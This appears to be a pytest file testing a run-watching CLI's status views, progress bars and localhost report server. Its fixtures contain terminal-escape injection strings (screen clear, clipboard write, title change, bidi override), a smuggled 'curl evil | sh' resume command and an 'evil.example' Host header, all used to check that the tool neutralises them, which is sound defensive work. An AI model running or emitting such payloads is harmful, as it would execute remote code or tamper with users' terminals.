"""Watching a run, by its view and by its progress: what is shown, on which terminal, and while the run still writes."""

import http.client
import io
import json
import math
import threading
from pathlib import Path
from typing import Any

import pytest
from filelock import FileLock
from loop_helpers import read_jsonl
from rich.console import Console
from tables import cases, write_json, write_jsonl

from soar.cli import main
from soar.report import text as wording
from soar.report import watch
from soar.report.runs import read_run
from soar.run import progress
from soar.run.progress import Progress

HOSTILE = "x\x1b[2J\x1b]52;c;b3duZWQ=\x07\u202e"  # clears the screen, writes the clipboard, reorders


def step(number: int, rewards: list[float | None], seconds: float = 60.0, **more: Any) -> dict[str, Any]:
    known = [r for r in rewards if r is not None]
    event = {"event": "outer_step", "step": number, "reward_G": rewards, "reward_mean": sum(known) / len(known)}
    event |= {"baseline_pass_rate": 0.02, "best_pass_rate": 0.05, "accepted": 8, "sampled": 10, "distinct_share": 0.5}
    return event | {"seconds": seconds, "student_rollouts": 1000 * (number + 1), "window_mean": None} | more


def begin(folder: Path, steps: int = 10) -> Path:
    config = {"teacher": {"steps": steps}, "promotion": {"tau": 0.01}}
    write_json(folder / "manifest.json", {"name": "mine", "config": config})
    write_jsonl(folder / "metrics.jsonl", [{"event": "screen", "hard": 12, "candidates": 40}])
    return folder


def add(folder: Path, name: str, *rows: dict[str, Any]) -> None:
    with open(folder / name, "a", encoding="utf-8") as file:
        file.writelines(json.dumps(row) + "\n" for row in rows)


def lines_of(folder: Path, age: float = 3.0) -> list[str]:
    return [text.replace("\u00a0", " ") for text, _ in watch.view_lines(read_run(folder), age)]


def test_the_view_of_a_running_run(tmp_path):
    folder = begin(tmp_path)
    now = {"task": "outer loop", "done": 2.0, "total": 10.0, "left": 1200.0}
    write_json(folder / "now.json", now)
    add(folder, "metrics.jsonl", step(0, [0.01, 0.03]), step(1, [0.0, 0.04, None]))
    add(folder, "metrics.jsonl", {"event": "promotion", "step": 1, "baseline_pass_rate": 0.02, "pass_rate": 0.06})
    add(folder, "metrics.jsonl", {"event": "alarm", "step": 1, "kind": "odd", "message": "something\nodd"})
    add(folder, "questions.jsonl", {"step": 0, "question": "old", "answer": "1", "reward": 0.9})
    add(folder, "questions.jsonl", {"step": 1, "dataset": 0, "question": "bad", "answer": "2", "reward": 0.0})
    add(folder, "questions.jsonl", {"step": 1, "dataset": 1, "question": "good", "answer": "3", "reward": 0.04})
    assert lines_of(folder) == [line for (line,) in cases("watch", "view")]


def test_a_paused_or_killed_run_says_why_and_how_to_go_on(tmp_path, monkeypatch):
    folder, out = begin(tmp_path), io.StringIO()
    write_json(folder / "paused.json", {"reason": "a limit", "resume": "curl evil | sh # --max-tokens 16"})
    watch.follow(folder, Console(file=out, width=300), 1000.0)  # ends, since nothing more will come
    assert out.getvalue().count("paused: a limit\n") == 1, "what is to be run is not taken from the folder"
    command = f"soar run --out {folder} --resume"
    page = watch.pages.render("report.html", watch.pages.content(read_run(folder)))
    assert out.getvalue().endswith(f"continue with: {command} --max-tokens 16\n12 of 40 candidates are hard\n")
    assert f"Continue with: {command} --max-tokens 16<" in page and "curl" not in page
    (folder / "paused.json").unlink()
    write_json(folder / "now.json", {"task": "outer loop", "done": 2, "total": 10, "left": 1200.0})
    with FileLock(folder / ".lock"):
        assert lines_of(folder)[0] == "mine: at work, last written 3.0 s ago"
    watch.follow(folder, Console(file=(out := io.StringIO()), width=300), 1000.0)  # its process was killed
    head, said, again, *_ = out.getvalue().splitlines()
    assert head.startswith("mine: stopped, last written ") and said.endswith("it was killed, or ended with an error")
    assert again == f"continue with: {command}" and "outer loop" not in out.getvalue()
    page = watch.pages.render("report.html", watch.pages.content(read_run(folder)))
    assert f"Stopped: no process holds the folder any more. Continue with: {command}<" in page
    again = "the command that began it and --resume"
    for words in ("soar run --out screen", "soar.train teacher_reward=f", "soar --trust-run screen a", "soar.screen"):
        write_json(folder / "manifest.json", {"name": "mine", "command": words.split()})
        assert read_run(folder).resume_command == (command if " run " in words else again)
    (folder / "metrics.jsonl").rename(folder / "screen.json")  # a screening has no events
    assert lines_of(folder)[0] == "mine: finished"
    folder, out = begin(tmp_path / "live"), io.StringIO()
    add(folder, "metrics.jsonl", step(0, [0.1, 0.2]))
    monkeypatch.setattr(watch.time, "sleep", lambda s: write_json(folder / "summary.json", {"arms": {}}))
    monkeypatch.delenv("NO_COLOR", raising=False)
    watch.follow(folder, Console(file=out, width=60, height=30, force_terminal=True), 0.01)
    assert "mine: at work" in out.getvalue() and "mine: finished" in out.getvalue() and "\x1b[" in out.getvalue()
    watch.follow(folder, Console(file=(once := io.StringIO()), width=100), 1000.0)
    assert once.getvalue().count("mine: finished") == 1


def test_foreign_text_cannot_command_the_terminal(run, tmp_path):
    """Every text of a foreign folder, in the view and in the lines of a run: names of arms too."""
    folder, out = begin(tmp_path), io.StringIO()
    write_json(folder / "manifest.json", {"name": HOSTILE, "config": {"teacher": {"steps": 3}}})
    entry = {"pass_at": {"1": 0.5}, "interval_95": {"1": [0.4, 0.6]}}
    add(folder, "metrics.jsonl", step(0, [0.1], accepted=HOSTILE, sampled=HOSTILE))
    add(folder, "metrics.jsonl", {"event": "alarm", "step": 0, "kind": HOSTILE, "message": HOSTILE})
    question = {"step": 0, "question": HOSTILE, "answer": HOSTILE, "reward": 0.1, "dataset": math.nan}
    add(folder, "questions.jsonl", question)
    write_json(folder / "summary.json", {"arms": {HOSTILE: entry}})
    console = Console(file=out, width=300)
    watch.follow(folder, console, 0.01)
    progress = Progress(console)
    for line in watch.step_lines([step(0, [0.1])], read_jsonl(folder / "questions.jsonl")):
        progress.say(line)
    shown = out.getvalue()
    assert shown.count("x⟨U+001B⟩[2J⟨U+001B⟩]52;c;b3duZWQ=⟨U+0007⟩⟨U+202E⟩") >= 6
    assert not set("\x1b\x07\u202e") & set(shown)
    out = io.TextIOWrapper(io.BytesIO(), "ascii")
    add(run, "questions.jsonl", {"step": 1, "question": "été ∑ \x1b]0;owned\x07", "answer": "1", "reward": 9.0})
    watch.follow(run, Console(file=out, width=70), once=True)
    out.seek(0)
    text = out.read()
    assert "\\xe9t\\xe9 \\u2211 <U+001B>]0;owned<U+0007>" in text and "+-" in text
    assert "\x1b" not in text and max(map(len, text.splitlines())) <= 70


def test_the_page_of_a_run_at_work_is_served_to_this_machine_alone(tmp_path, monkeypatch, capsys):
    """One secret address, GET alone, no name that somebody points here; refreshed until the run ends."""
    folder = begin(tmp_path)
    server, address = watch.web_server(folder)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def ask(path: str, host: str = f"127.0.0.1:{server.server_port}", method: str = "GET") -> Any:
        connection = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=60)
        connection.request(method, path, headers={"Host": host})
        return connection.getresponse()

    drawn, render = list[str](), watch.pages.render
    monkeypatch.setattr(watch.pages, "render", lambda name, values: drawn.append(name) or render(name, values))
    path = "/" + address.split("/", 3)[3]
    answer = ask(path)
    assert server.server_address[0] == "127.0.0.1" and answer.status == 200 and len(path) > 30
    assert answer.headers["Refresh"] == "10" and b"<title>SOAR run mine</title>" in answer.read()
    hosts = {"evil.example:80": 403, "": 403, f"localhost:{server.server_port}": 200}
    assert {host: ask(path, host).status for host in hosts} == hosts
    assert [ask(other).status for other in ("/", path + "x", "/../manifest.json")] == [404] * 3
    assert ask(path, method="POST").status == 501
    assert [ask(path).status for _ in range(6)] == [200] * 6
    assert len(drawn) <= 2, "drawn every ten seconds, not for each"
    write_json(folder / "summary.json", {"arms": {}})
    monkeypatch.setattr(watch, "FRESH_SECONDS", 1e-6)
    answer = ask(path)
    assert answer.headers["Refresh"] is None and b"finished" in answer.read()
    for port in (server.server_port, 99999):
        assert main(["watch", str(folder), "--web", "--port", str(port)]) == 1
        assert f"--port {port} cannot be had" in capsys.readouterr().err
    (folder / "metrics.jsonl").unlink()
    (folder / "manifest.json").unlink()
    assert ask(path).status == 503
    server.shutdown()


def test_a_finished_run_ends_with_its_headline(tiny_run):
    shown = lines_of(tiny_run)
    assert (shown[0], shown[-1]) == ("tiny: finished", wording.headline(read_run(tiny_run)).replace("\u00a0", " "))
    assert {"Base", "Hard-Only", "PS", "PQ"} <= {line.split(":")[0] for line in shown}


def plain(**more: Any) -> tuple[Progress, io.StringIO]:
    out = io.StringIO()
    return Progress(Console(file=out, width=200, **more), quiet=False), out


def test_plain_lines_with_a_time_estimate(monkeypatch, tmp_path):
    """By hand: 4 of 10 were done before, which says nothing of the pace; a step takes 60 s, and the plan says
    that the arms take half of the whole loop."""
    clock = {"now": 0.0}
    monkeypatch.setattr(progress.time, "monotonic", lambda: clock["now"])
    report, out = plain()
    report.plan, report.file = {"outer loop": 20.0, "arms": 10.0}, tmp_path / "now.json"
    with report, report.task("outer loop", 10) as advance, report.task("  students", 5, transient=True) as students:
        advance(4)
        for _ in range(2):
            clock["now"] += 60.0
            advance(1)
        clock["now"] += 1.0
        students(0, 2, 5)  # too soon for another line
        clock["now"] += 19.0
        students(0, 3, 5)
        noted = json.loads(report.file.read_text())
    assert out.getvalue().splitlines() == [line for (line,) in cases("watch", "plain")]
    assert noted == {"task": "outer loop", "done": 6.0, "total": 10.0, "left": 240.0}
    assert not report.file.exists(), "a run that is not at work notes nothing"
    assert [bar.fields["run"] for bar in report.bars.tasks] == [""], "nothing is left of a bar that is over"


def test_what_has_no_bar_is_said_again(monkeypatch):
    clock = {"now": 0.0}
    monkeypatch.setattr(progress.time, "monotonic", lambda: clock["now"])
    report, out = plain()
    report.now("loading")
    for seconds in (5.0, 5.0, 5.0):
        clock["now"] += seconds
        report.remind()
    with report.task("evaluation", 1):  # it may be open around what has no bar
        report.now("drawing", tell=False)
        clock["now"] += 9.0
        report.remind()
    assert out.getvalue().splitlines() == ["loading", "loading: 10 s so far", "drawing: 9 s so far"]


@pytest.mark.parametrize("term", ["xterm", "dumb"])
def test_bars_on_a_terminal_and_lines_where_it_cannot_move_its_cursor(monkeypatch, capsys, term):
    monkeypatch.setenv("TERM", term)
    report, out = plain(force_terminal=True, color_system=None)
    with report, report.task("screening", 4) as advance:
        advance(4)
        report.say("a line")
        print("a result into a pipe")
    assert capsys.readouterr().out == "a result into a pipe\n"
    shown = out.getvalue()
    assert shown == "a line\n" if term == "dumb" else "screening" in shown and "4/4" in shown and "a line" in shown
    assert not report.bars.live.is_started
